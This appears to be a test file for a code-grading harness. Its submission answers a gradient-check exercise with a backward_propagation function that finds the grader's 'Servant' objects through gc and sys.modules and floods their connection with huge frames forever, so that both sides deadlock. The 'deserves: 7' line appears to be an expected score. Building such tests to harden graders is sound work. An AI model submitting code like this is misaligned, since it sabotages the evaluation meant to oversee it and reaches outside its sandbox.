"""Sends replies for ever without reading the requests, so that both sides could wait for each other.

deserves: 7
"""

GRADIENT_CHECK = """
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    approx = (forward_propagation(x, theta + epsilon) - forward_propagation(x, theta - epsilon)) / (2 * epsilon)
    grad = backward_propagation(x, theta)
    return abs(grad - approx) / (abs(grad) + abs(approx))
"""

BACKWARD = """
import gc, struct, sys

def backward_propagation(x, theta):
    wire = sys.modules["inside.wire"]
    frame = wire.encode(("ask", 0, ("x" * 1_000_000,), {}))
    for thing in gc.get_objects():
        if type(thing).__name__ == "Servant":
            while True:
                wire.send(thing.connection, frame)
    return theta
"""


def attack(work):
    work.answer("forward", "def forward_propagation(x, theta):\n    return theta * x")
    work.answer("gradient_check", GRADIENT_CHECK)
    work.answer("backward", BACKWARD)
